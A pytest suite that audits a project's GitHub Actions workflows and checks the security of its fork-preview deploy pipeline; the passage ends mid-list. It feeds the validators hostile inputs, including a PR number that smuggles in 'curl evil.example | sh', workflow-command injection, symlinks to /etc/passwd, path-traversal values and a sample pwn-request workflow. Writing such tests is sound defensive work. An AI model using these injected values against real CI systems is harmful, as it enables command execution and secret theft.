"""Checks of the GitHub Actions workflows (DESIGN.md section 5, "Publishing and previews").

Three layers:

* schema: every workflow validates against `check-jsonschema --builtin-schema
  vendor.github-workflows`;
* zizmor (offline): no finding at any severity under the "pedantic" persona (a superset of
  the default "regular" one). The only findings silenced are silenced inline, with a
  reason, and the list of them is pinned below (`EXPECTED_IGNORES`), so a new one needs a
  deliberate change here;
* the properties the preview design rests on, asserted directly: no `pull_request_target`;
  the `workflow_run` workflow never checks out or runs the pull request's code and never
  puts an expression into a script; the `pull_request` preview build is read-only and
  secret-free; and the scripts that judge the untrusted artifact are run here against
  hostile inputs.

check-jsonschema and zizmor are looked up next to the running Python (the same virtual
environment as pytest).
"""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
import yaml

ROOT = Path(__file__).resolve().parent.parent
WORKFLOWS_DIR = ROOT / ".github" / "workflows"
WORKFLOW_FILES = sorted(p for p in WORKFLOWS_DIR.glob("*") if p.suffix in {".yml", ".yaml"})
BIN = Path(sys.executable).parent  # not resolved: a venv's python is a symlink

CI, PAGES, PREVIEW, PREVIEW_DEPLOY = "ci.yml", "pages.yml", "preview.yml", "preview-deploy.yml"
APPROVAL_LABEL = "safe-to-preview"
SHA = "0123456789abcdef0123456789abcdef01234567"
OTHER_SHA = "fedcba9876543210fedcba9876543210fedcba98"

# (workflow file, zizmor rule) for every inline `# zizmor: ignore[...]`. Each one is a
# decision recorded next to the code it concerns; adding one means adding it here.
EXPECTED_IGNORES = {
    (CI, "unpinned-images"),
    (PAGES, "unpinned-images"),
    (PREVIEW, "unpinned-images"),
    (PREVIEW_DEPLOY, "dangerous-triggers"),
}

# Strings a pull request's author controls, or that are only there to be used on PR data.
PR_CONTROLLED = (
    "workflow_run.head_branch",
    "workflow_run.head_commit",
    "workflow_run.display_title",
    "workflow_run.pull_requests",
    "head_repository.full_name",
    "github.head_ref",
    "pull_request.title",
    "pull_request.body",
    "pull_request.head.ref",
)


# --------------------------------------------------------------------------- helpers


def tool(name: str) -> str:
    path = BIN / name
    if not path.exists():
        pytest.fail(f"{name} is not installed next to {sys.executable}: add it to the test dependencies")
    return str(path)


def load(name: str) -> dict:
    return yaml.safe_load((WORKFLOWS_DIR / name).read_text(encoding="utf-8"))


def triggers(workflow: dict) -> dict:
    """The `on:` block as a dict (PyYAML reads the bare key `on` as True)."""
    on = workflow.get("on", workflow.get(True))
    if isinstance(on, str):
        return {on: None}
    if isinstance(on, list):
        return {name: None for name in on}
    assert isinstance(on, dict), f"unexpected `on:` {on!r}"
    return on


def steps(workflow: dict):
    for job_id, job in workflow["jobs"].items():
        for step in job.get("steps", []):
            yield job_id, step


def step_by_id(workflow: dict, step_id: str) -> dict:
    found = [step for _, step in steps(workflow) if step.get("id") == step_id]
    assert len(found) == 1, f"expected one step with id {step_id!r}"
    return found[0]


def read_outputs(path: Path) -> dict[str, str]:
    if not path.exists():
        return {}
    return dict(line.split("=", 1) for line in path.read_text(encoding="utf-8").splitlines() if line)


def run_zizmor(target: Path) -> tuple[int, list[dict], str]:
    result = subprocess.run(
        [tool("zizmor"), "--offline", "--no-config", "--persona", "pedantic", "--format", "json",
         "--no-progress", str(target)],
        capture_output=True, text=True, timeout=300,
    )
    try:
        findings = json.loads(result.stdout) if result.stdout.strip() else []
    except json.JSONDecodeError:
        pytest.fail(f"zizmor did not print JSON (exit {result.returncode}):\n{result.stdout}\n{result.stderr}")
    return result.returncode, findings, result.stderr


# --------------------------------------------------------------------------- inventory


def test_the_four_workflows_exist():
    assert {CI, PAGES, PREVIEW, PREVIEW_DEPLOY} <= {p.name for p in WORKFLOW_FILES}


# --------------------------------------------------------------------------- schema


@pytest.mark.parametrize("path", WORKFLOW_FILES, ids=lambda p: p.name)
def test_workflow_matches_the_github_workflow_schema(path):
    result = subprocess.run(
        [tool("check-jsonschema"), "--builtin-schema", "vendor.github-workflows", str(path)],
        capture_output=True, text=True, timeout=120,
    )
    assert result.returncode == 0, result.stdout + result.stderr


def test_schema_check_rejects_an_invalid_workflow(tmp_path):
    bad = tmp_path / "bad.yml"
    bad.write_text("on: push\njobs:\n  x:\n    steps:\n      - uses: a/b@v1\n        run: echo both\n")
    result = subprocess.run(
        [tool("check-jsonschema"), "--builtin-schema", "vendor.github-workflows", str(bad)],
        capture_output=True, text=True, timeout=120,
    )
    assert result.returncode != 0, "check-jsonschema accepted a job without runs-on"


# --------------------------------------------------------------------------- zizmor


def test_zizmor_reports_nothing():
    code, findings, stderr = run_zizmor(WORKFLOWS_DIR)
    summary = [
        f"{f['ident']} ({f['determinations']['severity']}) "
        f"{f['locations'][0]['symbolic']['key']} row {f['locations'][0]['concrete']['location']['start_point']['row'] + 1}"
        for f in findings
    ]
    assert findings == [], "\n".join(summary)
    assert code == 0, stderr


def test_zizmor_ignores_are_the_expected_ones_and_say_why():
    seen = set()
    pattern = re.compile(r"#\s*zizmor:\s*ignore\[([a-z0-9-]+)\](.*)$")
    for path in WORKFLOW_FILES:
        for line in path.read_text(encoding="utf-8").splitlines():
            match = pattern.search(line)
            if not match:
                continue
            rule, rest = match.groups()
            seen.add((path.name, rule))
            reason = rest.strip().lstrip("-—: ").strip()
            assert len(reason) >= 30, f"{path.name}: ignore[{rule}] needs a reason: {line.strip()}"
    assert seen == EXPECTED_IGNORES


def test_zizmor_catches_a_dangerous_workflow(tmp_path):
    """The offline run really audits: a classic pwn-request workflow is flagged."""
    folder = tmp_path / ".github" / "workflows"
    folder.mkdir(parents=True)
    (folder / "bad.yml").write_text(
        "name: bad\n"
        "on: pull_request_target\n"
        "jobs:\n"
        "  x:\n"
        "    runs-on: ubuntu-latest\n"
        "    steps:\n"
        "      - uses: actions/checkout@v4\n"
        "        with:\n"
        "          ref: ${{ github.event.pull_request.head.sha }}\n"
        '      - run: echo "${{ github.event.pull_request.title }}"\n'
    )
    code, findings, _ = run_zizmor(folder)
    rules = {f["ident"] for f in findings}
    assert {"dangerous-triggers", "template-injection", "artipacked", "unpinned-uses"} <= rules
    assert code != 0


# --------------------------------------------------------------------------- every workflow


@pytest.mark.parametrize("path", WORKFLOW_FILES, ids=lambda p: p.name)
def test_no_pull_request_target(path):
    assert "pull_request_target" not in triggers(load(path.name))


@pytest.mark.parametrize("path", WORKFLOW_FILES, ids=lambda p: p.name)
def test_only_the_preview_deploy_workflow_uses_workflow_run(path):
    if path.name != PREVIEW_DEPLOY:
        assert "workflow_run" not in triggers(load(path.name))


@pytest.mark.parametrize("path", WORKFLOW_FILES, ids=lambda p: p.name)
def test_permissions_are_explicit_and_jobs_are_bounded(path):
    workflow = load(path.name)
    assert "permissions" in workflow, "set the workflow's default token permissions explicitly"
    assert workflow["permissions"] not in ("write-all", "read-all")
    for value in (workflow["permissions"] or {}).values():
        assert value in ("read", "none"), "write permissions belong on the job that needs them"
    for job_id, job in workflow["jobs"].items():
        assert isinstance(job.get("timeout-minutes"), int), f"{job_id}: no timeout-minutes"
        assert job.get("secrets") != "inherit"


@pytest.mark.parametrize("path", WORKFLOW_FILES, ids=lambda p: p.name)
def test_actions_are_pinned_to_commits(path):
    uses = re.findall(r"^\s*(?:-\s+)?uses:\s*(.+)$", path.read_text(encoding="utf-8"), re.M)
    for ref in uses:
        assert re.fullmatch(r"[\w.-]+/[\w./-]+@[0-9a-f]{40}\s+#\s*v\d+(\.\d+)*", ref.strip()), (
            f"{path.name}: `{ref.strip()}` is not pinned to a full commit SHA with a `# vX.Y.Z` comment"
        )


@pytest.mark.parametrize("path", WORKFLOW_FILES, ids=lambda p: p.name)
def test_checkouts_do_not_persist_credentials(path):
    for job_id, step in steps(load(path.name)):
        if str(step.get("uses", "")).startswith("actions/checkout@"):
            assert (step.get("with") or {}).get("persist-credentials") is False, job_id


@pytest.mark.parametrize("path", WORKFLOW_FILES, ids=lambda p: p.name)
def test_no_expression_inside_a_script(path):
    """Values reach scripts through env:, never through ${{ }} (template injection)."""
    for job_id, step in steps(load(path.name)):
        assert "${{" not in step.get("run", ""), f"{job_id}: ${{{{ }}}} inside run:"
        assert "${{" not in (step.get("with") or {}).get("script", ""), f"{job_id}: ${{{{ }}}} inside script:"


# --------------------------------------------------------------------------- ci.yml


def test_ci_runs_the_test_suite_in_debian():
    workflow = load(CI)
    on = triggers(workflow)
    assert on["push"]["branches"] == ["main"]
    assert "pull_request" in on
    assert workflow["permissions"] == {"contents": "read"}
    assert "concurrency" in workflow
    (job,) = workflow["jobs"].values()
    assert job["container"] == "python:3.11-bookworm"
    assert [step["run"] for step in job["steps"] if "run" in step] == ["bash .ci/run"]


# --------------------------------------------------------------------------- pages.yml


def test_pages_publishes_main_and_only_the_deploy_job_can_write():
    workflow = load(PAGES)
    on = triggers(workflow)
    assert on["push"]["branches"] == ["main"]
    assert "pull_request" not in on
    assert workflow["permissions"] == {}
    jobs = workflow["jobs"]
    assert jobs["build"]["if"] == "github.ref == 'refs/heads/main'"
    assert jobs["build"]["permissions"] == {"contents": "read"}
    assert jobs["deploy"]["permissions"] == {"pages": "write", "id-token": "write"}
    assert jobs["deploy"]["needs"] == "build"
    assert [s["uses"].split("@")[0] for s in jobs["deploy"]["steps"]] == ["actions/deploy-pages"]
    build_text = "\n".join(s.get("run", "") for s in jobs["build"]["steps"])
    assert "mkdocs build --strict" in build_text
    assert any(s.get("uses", "").startswith("actions/upload-pages-artifact@") for s in jobs["build"]["steps"])


# --------------------------------------------------------------------------- preview.yml


def test_preview_build_is_unprivileged():
    workflow = load(PREVIEW)
    text = (WORKFLOWS_DIR / PREVIEW).read_text(encoding="utf-8")
    assert set(triggers(workflow)) == {"pull_request"}
    assert workflow["permissions"] == {"contents": "read"}
    assert "secrets." not in text and "secrets[" not in text
    for job_id, job in workflow["jobs"].items():
        assert set((job.get("permissions") or {}).values()) <= {"read", "none"}, job_id
        assert "environment" not in job, f"{job_id}: environments can hold secrets"


def test_preview_builds_checks_and_uploads_the_site_with_pr_number_and_head_sha():
    workflow = load(PREVIEW)
    all_steps = [step for _, step in steps(workflow)]
    runs = "\n".join(step.get("run", "") for step in all_steps)
    assert "mkdocs build --strict" in runs
    assert "-m build_scripts check" in runs
    package = next(step for step in all_steps if "preview/pr_number" in step.get("run", ""))
    assert package["env"] == {
        "PR_NUMBER": "${{ github.event.pull_request.number }}",
        "HEAD_SHA": "${{ github.event.pull_request.head.sha }}",
    }
    assert "preview/head_sha" in package["run"] and "preview/site" in package["run"]
    assert "mv report.md preview/report.md" in package["run"]
    report = next(step for step in all_steps if "-m build_scripts report" in step.get("run", ""))
    assert report["run"] == ".venv/bin/python -m build_scripts report --base HEAD^1 > report.md"
    assert all_steps.index(report) < all_steps.index(package)
    checkout = next(step for step in all_steps if step.get("uses", "").startswith("actions/checkout@"))
    assert checkout["with"]["fetch-depth"] == 2, "the base commit (HEAD^1 of the merge commit) must be there"
    upload = next(step for step in all_steps if step.get("uses", "").startswith("actions/upload-artifact@"))
    assert upload["with"]["name"] == "preview" and upload["with"]["path"] == "preview/"
    (job,) = workflow["jobs"].values()
    assert APPROVAL_LABEL in job["if"], "a label event other than the approval label must skip the build"


# --------------------------------------------------------------------------- preview-deploy.yml


def test_preview_deploy_is_triggered_only_by_a_successful_preview_run():
    workflow = load(PREVIEW_DEPLOY)
    on = triggers(workflow)
    assert set(on) == {"workflow_run"}
    assert on["workflow_run"]["workflows"] == [load(PREVIEW)["name"]]
    assert on["workflow_run"]["types"] == ["completed"]
    assert workflow["permissions"] == {}
    for job_id, job in workflow["jobs"].items():
        condition = re.sub(r"\s+", " ", job["if"])
        assert "github.event.workflow_run.conclusion == 'success'" in condition, job_id
        assert "github.event.workflow_run.event == 'pull_request'" in condition, job_id
        assert job["permissions"] == {"actions": "read", "contents": "read", "pull-requests": "write"}, job_id


def test_preview_deploy_never_checks_out_or_runs_pr_code():
    """The checkouts are of this workflow's own commit (the default branch), only its scripts
    and the deploy tool's lockfile; the one install is `npm ci --ignore-scripts` of that lockfile."""
    workflow = load(PREVIEW_DEPLOY)
    checkouts = [step for _, step in steps(workflow) if str(step.get("uses", "")).startswith("actions/checkout")]
    assert [step["with"] for step in checkouts] == [
        {"ref": "${{ github.sha }}", "persist-credentials": False,
         "sparse-checkout": ".github/scripts", "sparse-checkout-cone-mode": False},
        {"ref": "${{ github.sha }}", "sparse-checkout": ".github/deploy", "sparse-checkout-cone-mode": False,
         "path": "trusted", "persist-credentials": False},
    ]
    for job_id, step in steps(workflow):
        uses = str(step.get("uses", ""))
        if step.get("shell") is None and "run" in step and step.get("id") not in ("deploy", "tool"):
            assert re.fullmatch(r"python3 \.github/scripts/[a-z_]+\.py", step["run"].strip()), step["run"]
        assert not uses.startswith(("./", "docker://")), f"{job_id}: runs code that is not pinned here"
        script = step.get("run", "") + (step.get("with") or {}).get("script", "")
        fetches_code = re.search(
            r"\bgit\s+(clone|fetch|checkout|pull|worktree)\b|\bgh\s+(pr\s+checkout|repo\s+clone)\b"
            r"|\bpip3?\s+install\b|\bnpm\s+(install|run|exec)\b|\bnpx\b|\bmake\s+(test|site|check|serve)\b",
            script,
        )
        assert not fetches_code, f"{job_id}: `{fetches_code and fetches_code.group(0)}` in a workflow_run workflow"
        for line in re.findall(r"\bnpm\s+ci\b.*", script):
            assert "--ignore-scripts" in line, f"{job_id}: {line}"


def test_preview_deploy_uses_no_pr_controlled_strings():
    workflow = load(PREVIEW_DEPLOY)
    for job_id, step in steps(workflow):
        dumped = json.dumps(step)
        for name in PR_CONTROLLED:
            assert name not in dumped, f"{job_id}: step {step.get('name')!r} uses {name}"


def test_preview_deploy_writes_no_environment_files():
    # zizmor cannot follow GITHUB_ENV / GITHUB_PATH through `shell: python` steps.
    text = (WORKFLOWS_DIR / PREVIEW_DEPLOY).read_text(encoding="utf-8")
    assert "GITHUB_ENV" not in text and "GITHUB_PATH" not in text


def test_preview_deploy_downloads_the_artifact_of_the_triggering_run_outside_the_workspace():
    workflow = load(PREVIEW_DEPLOY)
    (download,) = [s for _, s in steps(workflow) if str(s.get("uses", "")).startswith("actions/download-artifact@")]
    assert download["with"]["run-id"] == "${{ github.event.workflow_run.id }}"
    assert download["with"]["name"] == "preview"
    assert download["with"]["path"].startswith("${{ runner.temp }}/")
    validate = step_by_id(workflow, "artifact")
    assert validate["env"]["RUN_HEAD_SHA"] == "${{ github.event.workflow_run.head_sha }}"
    assert validate["env"]["ARTIFACT_DIR"] == download["with"]["path"]


def test_preview_deploy_secrets_reach_only_the_deploy_step():
    workflow = load(PREVIEW_DEPLOY)
    text = (WORKFLOWS_DIR / PREVIEW_DEPLOY).read_text(encoding="utf-8")
    assert sorted(set(re.findall(r"secrets\.(\w+)", text))) == ["CLOUDFLARE_ACCOUNT_ID", "CLOUDFLARE_API_TOKEN"]
    for job_id, step in steps(workflow):
        if step.get("id") != "deploy":
            assert "secrets." not in json.dumps(step), f"{job_id}: {step.get('name')!r} sees a secret"
    deploy = step_by_id(workflow, "deploy")
    assert deploy["if"] == "steps.pr.outputs.deploy == 'true'"
    assert '"$WRANGLER" pages deploy ' in deploy["run"]
    assert deploy["env"]["WRANGLER"] == "${{ steps.tool.outputs.wrangler }}"
    assert "secrets." not in json.dumps(step_by_id(workflow, "tool")), "the install step holds no secret"
    assert step_by_id(workflow, "pr")["env"]["APPROVAL_LABEL"] == APPROVAL_LABEL


# ---- the artifact validation step, run against hostile artifacts


def make_artifact(root: Path, pr_number: bytes = b"12\n", head_sha: bytes = SHA.encode() + b"\n") -> Path:
    (root / "site" / "data").mkdir(parents=True)
    (root / "site" / "index.html").write_text("<!doctype html><title>preview</title>")
    (root / "site" / "data" / "dossier.json").write_text("{}")
    (root / "pr_number").write_bytes(pr_number)
    (root / "head_sha").write_bytes(head_sha)
    return root


SCRIPTS_DIR = ROOT / ".github" / "scripts"


def step_script(step_id: str) -> Path:
    """The script file that a step of preview-deploy.yml runs (the tests run the same file)."""
    step = step_by_id(load(PREVIEW_DEPLOY), step_id)
    match = re.fullmatch(r"python3 \.github/scripts/([a-z_]+\.py)", step["run"].strip())
    assert match, f"step {step_id!r} must run one script of .github/scripts: {step['run']!r}"
    return SCRIPTS_DIR / match.group(1)


def run_python_step(step_id: str, tmp_path: Path, env: dict[str, str]):
    script = step_script(step_id)
    output = tmp_path / f"{step_id}.out"
    full_env = {"PATH": os.environ.get("PATH", ""), "GITHUB_OUTPUT": str(output), **env}
    result = subprocess.run([sys.executable, str(script)], env=full_env, capture_output=True, text=True, timeout=60,
                            cwd=tmp_path)
    return result, read_outputs(output)


def validate(tmp_path: Path, artifact: Path, run_head_sha: str = SHA):
    return run_python_step("artifact", tmp_path, {"ARTIFACT_DIR": str(artifact), "RUN_HEAD_SHA": run_head_sha})


def test_artifact_validation_accepts_a_built_site(tmp_path):
    result, outputs = validate(tmp_path, make_artifact(tmp_path / "preview"))
    assert result.returncode == 0, result.stdout + result.stderr
    assert outputs == {"pr_number": "12", "head_sha": SHA, "report": "false"}


def test_artifact_validation_accepts_a_site_with_its_report(tmp_path):
    artifact = make_artifact(tmp_path / "preview")
    (artifact / "report.md").write_text("# Change report\n\n`${{ github.token }}` @everyone\n", encoding="utf-8")
    result, outputs = validate(tmp_path, artifact)
    assert result.returncode == 0, result.stdout + result.stderr
    assert outputs == {"pr_number": "12", "head_sha": SHA, "report": "true"}
    assert "github.token" not in result.stdout and "everyone" not in result.stdout, "the report never reaches the log"


@pytest.mark.parametrize("report", [b"\xff\xfe not UTF-8", b"x" * 1_000_001], ids=["not-utf8", "too-large"])
def test_artifact_validation_rejects_a_bad_report(tmp_path, report):
    artifact = make_artifact(tmp_path / "preview")
    (artifact / "report.md").write_bytes(report)
    result, outputs = validate(tmp_path, artifact)
    assert result.returncode != 0 and outputs == {}


def test_artifact_validation_rejects_a_report_that_is_a_folder_or_a_link_outside(tmp_path):
    artifact = make_artifact(tmp_path / "a")
    (artifact / "report.md").mkdir()
    assert validate(tmp_path, artifact)[0].returncode != 0
    artifact = make_artifact(tmp_path / "b")
    secret = tmp_path / "runner-secret"
    secret.write_text("token")
    (artifact / "report.md").symlink_to(secret)
    result, outputs = validate(tmp_path, artifact)
    assert result.returncode != 0 and outputs == {}
    assert result.stdout.strip() == "::error::artifact rejected: it holds something other than plain files and folders"


@pytest.mark.parametrize("pr_number", [
    b"12; curl evil.example | sh\n", b"0\n", b"012\n", b"-1\n", b"12\n13\n", b"1e3\n",
    "\u0661\u0662\n".encode(), b"12345678901\n", b"\n", b"::set-output name=pr_number::1\n",
])
def test_artifact_validation_rejects_a_bad_pr_number(tmp_path, pr_number):
    result, outputs = validate(tmp_path, make_artifact(tmp_path / "preview", pr_number=pr_number))
    assert result.returncode != 0
    assert outputs == {}
    assert "set-output" not in result.stdout, "artifact content must never reach the log"


@pytest.mark.parametrize("head_sha", [OTHER_SHA.encode(), SHA.upper().encode(), b"", SHA.encode() * 2])
def test_artifact_validation_rejects_another_commit(tmp_path, head_sha):
    result, outputs = validate(tmp_path, make_artifact(tmp_path / "preview", head_sha=head_sha))
    assert result.returncode != 0 and outputs == {}


@pytest.mark.parametrize("name", ["_worker.js", "_routes.json", "_headers", "_redirects"])
@pytest.mark.parametrize("as_folder", [False, True])
def test_artifact_validation_rejects_cloudflare_code_and_configuration(tmp_path, name, as_folder):
    artifact = make_artifact(tmp_path / "preview")
    target = artifact / "site" / name
    if as_folder:
        target.mkdir()
        (target / "index.js").write_text("export default { fetch() {} }")
    else:
        target.write_text("export default { fetch() {} }")
    result, outputs = validate(tmp_path, artifact)
    assert result.returncode != 0 and outputs == {}


@pytest.mark.parametrize("link_target", ["/etc/passwd", ".."])
def test_artifact_validation_rejects_symlinks(tmp_path, link_target):
    artifact = make_artifact(tmp_path / "preview")
    (artifact / "site" / "data" / "leak").symlink_to(link_target)
    result, outputs = validate(tmp_path, artifact)
    assert result.returncode != 0 and outputs == {}


def test_artifact_validation_rejects_extra_or_missing_pieces(tmp_path):
    artifact = make_artifact(tmp_path / "a")
    (artifact / "wrangler.toml").write_text('name = "other"')
    assert validate(tmp_path, artifact)[0].returncode != 0
    artifact = make_artifact(tmp_path / "b")
    (artifact / "site" / "index.html").unlink()
    assert validate(tmp_path, artifact)[0].returncode != 0
    artifact = make_artifact(tmp_path / "c")
    (artifact / "head_sha").unlink()
    assert validate(tmp_path, artifact)[0].returncode != 0
    assert validate(tmp_path, tmp_path / "missing")[0].returncode != 0


# ---- the pull-request check, run against a fake GitHub API


BASE_REPO_ID, FORK_REPO_ID = 1000, 2000


def pull_request(*, state="open", head_sha=SHA, head_repo_id=BASE_REPO_ID, labels=()):
    return {
        "number": 12,
        "state": state,
        "head": {"sha": head_sha, "repo": None if head_repo_id is None else {"id": head_repo_id}},
        "base": {"repo": {"id": BASE_REPO_ID}},
        "labels": [{"name": name} for name in labels],
    }


@pytest.fixture
def fake_api():
    responses: dict[str, tuple[int, object]] = {}
    seen: list[tuple[str, str]] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self):  # noqa: N802 (http.server API)
            seen.append((self.path, self.headers.get("Authorization", "")))
            status, body = responses.get(self.path, (404, {"message": "Not Found"}))
            data = json.dumps(body).encode()
            self.send_response(status)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(data)))
            self.end_headers()
            self.wfile.write(data)

        def log_message(self, *args):
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", responses, seen
    finally:
        server.shutdown()
        server.server_close()


def check_pr(tmp_path, api_url, *, run_head_repo_id=BASE_REPO_ID, pr_number="12", actor="maintainer"):
    return run_python_step("pr", tmp_path, {
        "RUN_ACTOR": actor,
        "GITHUB_API_URL": api_url,
        "GITHUB_REPOSITORY": "owner/dossier",
        "GH_TOKEN": "test-token",
        "PR_NUMBER": pr_number,
        "RUN_HEAD_SHA": SHA,
        "RUN_HEAD_REPOSITORY_ID": str(run_head_repo_id),
        "APPROVAL_LABEL": APPROVAL_LABEL,
    })


@pytest.mark.parametrize(("pr", "run_head_repo_id", "expected"), [
    (pull_request(), BASE_REPO_ID, {"deploy": "true", "reason": "ok", "fork": "false"}),
    (pull_request(head_repo_id=FORK_REPO_ID), FORK_REPO_ID,
     {"deploy": "false", "reason": "needs-label", "fork": "true"}),
    (pull_request(head_repo_id=FORK_REPO_ID, labels=("documentation",)), FORK_REPO_ID,
     {"deploy": "false", "reason": "needs-label", "fork": "true"}),
    (pull_request(head_sha=OTHER_SHA), BASE_REPO_ID, {"deploy": "false", "reason": "stale"}),
    (pull_request(state="closed"), BASE_REPO_ID, {"deploy": "false", "reason": "closed"}),
], ids=["same-repo", "fork-unlabelled", "fork-other-label", "stale", "closed"])
def test_pr_check_decides(tmp_path, fake_api, pr, run_head_repo_id, expected):
    api_url, responses, seen = fake_api
    responses["/repos/owner/dossier/pulls/12"] = (200, pr)
    result, outputs = check_pr(tmp_path, api_url, run_head_repo_id=run_head_repo_id)
    assert result.returncode == 0, result.stdout + result.stderr
    assert outputs == {"approved_sha": SHA, **expected} if expected["deploy"] == "true" else expected
    assert seen == [("/repos/owner/dossier/pulls/12", "Bearer test-token")]


PERMISSION = "/repos/owner/dossier/collaborators/{}/permission"


@pytest.mark.parametrize(("actor", "answer", "expected"), [
    # The run that adding the label started: its actor is the maintainer who added it.
    ("maintainer", (200, {"permission": "write"}), {"deploy": "true", "reason": "ok", "fork": "true",
                                                    "approved_sha": SHA}),
    ("owner-admin", (200, {"permission": "admin"}), {"deploy": "true", "reason": "ok", "fork": "true",
                                                     "approved_sha": SHA}),
    # The build of a push made after the label was given: started by the fork's author.
    ("author", (200, {"permission": "read"}), {"deploy": "false", "reason": "needs-label", "fork": "true",
                                               "withdraw": "true"}),
    ("stranger", (404, {"message": "Not Found"}), {"deploy": "false", "reason": "needs-label", "fork": "true",
                                                   "withdraw": "true"}),
    ("bad/../login", None, {"deploy": "false", "reason": "needs-label", "fork": "true", "withdraw": "true"}),
], ids=["maintainer", "admin", "later-push-by-author", "not-a-collaborator", "malformed-login"])
def test_approval_applies_to_the_commit_it_was_given_on(tmp_path, fake_api, actor, answer, expected):
    api_url, responses, seen = fake_api
    responses["/repos/owner/dossier/pulls/12"] = (200, pull_request(head_repo_id=FORK_REPO_ID,
                                                                    labels=(APPROVAL_LABEL,)))
    if answer is not None:
        responses[PERMISSION.format(actor)] = answer
    result, outputs = check_pr(tmp_path, api_url, run_head_repo_id=FORK_REPO_ID, actor=actor)
    assert result.returncode == 0, result.stdout + result.stderr
    assert outputs == expected
    asked = [path for path, _ in seen]
    assert asked == ["/repos/owner/dossier/pulls/12"] + ([PERMISSION.format(actor)] if answer else [])
    if expected["deploy"] == "false":
        assert f"{SHA} was pushed after the {APPROVAL_LABEL} label was given" in result.stdout


def test_a_later_push_withdraws_the_label_and_its_comment_asks_again():
    workflow = load(PREVIEW_DEPLOY)
    withdraw = next(step for _, step in steps(workflow) if "removeLabel" in str(step.get("with", {}).get("script")))
    assert "steps.pr.outputs.withdraw == 'true'" in withdraw["if"]
    assert step_by_id(workflow, "pr")["env"]["RUN_ACTOR"] == "${{ github.event.workflow_run.actor.login }}"
    comment = next(step for _, step in steps(workflow) if "preview_comment.py" in step.get("run", ""))
    assert "steps.pr.outputs.reason == 'needs-label'" in comment["if"]


@pytest.mark.parametrize(("pr", "run_head_repo_id"), [
    # A fork's run that claims the number of a same-repo PR sharing its head commit:
    (pull_request(), FORK_REPO_ID),
    # The head repository of the PR was deleted:
    (pull_request(head_repo_id=None), FORK_REPO_ID),
], ids=["claims-another-repos-pr", "deleted-fork"])
def test_pr_check_refuses_a_run_from_another_repository(tmp_path, fake_api, pr, run_head_repo_id):
    api_url, responses, _ = fake_api
    responses["/repos/owner/dossier/pulls/12"] = (200, pr)
    result, outputs = check_pr(tmp_path, api_url, run_head_repo_id=run_head_repo_id)
    assert result.returncode != 0
    assert outputs.get("deploy") != "true"


def test_pr_check_fails_on_an_unknown_pr_or_a_bad_number(tmp_path, fake_api):
    api_url, _, seen = fake_api
    result, outputs = check_pr(tmp_path, api_url)  # the fake API answers 404
    assert result.returncode != 0 and "deploy" not in outputs
    result, outputs = check_pr(tmp_path, api_url, pr_number="12/../../issues")
    assert result.returncode != 0 and "deploy" not in outputs
    assert len(seen) == 1, "a malformed number must not reach the API"


# ---- the deploy step, run with a fake npx in place of wrangler


FAKE_NPX = """#!/usr/bin/env bash
printf '%s\\n' "$@" > "$FAKE_LOG/args"
pwd > "$FAKE_LOG/cwd"
ls -A | wc -l > "$FAKE_LOG/cwd_entries"
cat "$FAKE_LOG/stdout"
"""

WRANGLER_OUTPUT = (
    "Uploading... (12/12)\n"
    "\u2728 Success! Uploaded 12 files (0.00 sec)\n"
    "\u2728 Deployment complete! Take a peek over at https://0a1b2c3d.dossier-previews.pages.dev\n"
    "\u2728 Deployment alias URL: https://pr-12.dossier-previews.pages.dev\n"
)


def run_deploy_step(tmp_path: Path, wrangler_stdout: str, **overrides: str):
    step = step_by_id(load(PREVIEW_DEPLOY), "deploy")
    fake_bin = tmp_path / "bin"
    fake_bin.mkdir()
    (fake_bin / "wrangler").write_text(FAKE_NPX)
    (fake_bin / "wrangler").chmod(0o755)
    log = tmp_path / "fake"
    log.mkdir()
    (log / "stdout").write_text(wrangler_stdout, encoding="utf-8")
    runner_temp = tmp_path / "runner-temp"
    runner_temp.mkdir()
    script = tmp_path / "deploy.sh"
    script.write_text(step["run"], encoding="utf-8")
    output = tmp_path / "deploy.out"
    env = {
        "PATH": os.environ.get("PATH", ""),
        "WRANGLER": str(fake_bin / "wrangler"),
        "HOME": str(tmp_path),
        "TMPDIR": str(tmp_path),
        "RUNNER_TEMP": str(runner_temp),
        "GITHUB_OUTPUT": str(output),
        "FAKE_LOG": str(log),
        "CLOUDFLARE_API_TOKEN": "token",
        "CLOUDFLARE_ACCOUNT_ID": "account",
        "PAGES_PROJECT": "dossier-previews",
        "SITE_DIR": str(tmp_path / "preview" / "site"),
        "PR_NUMBER": "12",
        "HEAD_SHA": SHA,
        **overrides,
    }
    # GitHub runs `run:` with `bash -e {0}` (plus --noprofile --norc).
    result = subprocess.run(["bash", "--noprofile", "--norc", "-e", str(script)], env=env,
                            capture_output=True, text=True, timeout=60, cwd=tmp_path)
    return result, read_outputs(output), log


def test_deploy_step_calls_wrangler_from_an_empty_folder_and_reports_the_alias(tmp_path):
    result, outputs, log = run_deploy_step(tmp_path, WRANGLER_OUTPUT)
    assert result.returncode == 0, result.stdout + result.stderr
    assert outputs == {"url": "https://pr-12.dossier-previews.pages.dev"}
    args = (log / "args").read_text().splitlines()
    assert args[:2] == ["pages", "deploy"]
    assert args[2] == str(tmp_path / "preview" / "site")
    assert "--project-name=dossier-previews" in args and "--branch=pr-12" in args
    assert f"--commit-hash={SHA}" in args
    assert (log / "cwd_entries").read_text().strip() == "0", "wrangler must run in an empty folder"
    assert Path((log / "cwd").read_text().strip()) != tmp_path


def test_deploy_step_falls_back_on_the_deployment_url(tmp_path):
    output = "\n".join(line for line in WRANGLER_OUTPUT.splitlines() if "alias" not in line) + "\n"
    result, outputs, _ = run_deploy_step(tmp_path, output)
    assert result.returncode == 0, result.stderr
    assert outputs == {"url": "https://0a1b2c3d.dossier-previews.pages.dev"}


@pytest.mark.parametrize("stdout", [
    "Deployment complete! Take a peek over at https://evil.example.com\n",
    "Deployment alias URL: https://pr-12.pages.dev.evil.example\n",
    "Deployment alias URL: https://pr-12.pages.dev\n",
    "Take a peek over at https://a.dossier-previews.pages.dev/../x\n",
    "Take a peek over at https://a.dossier-previews.pages.dev\" onmouseover=\"x\n",
    "nothing useful\n",
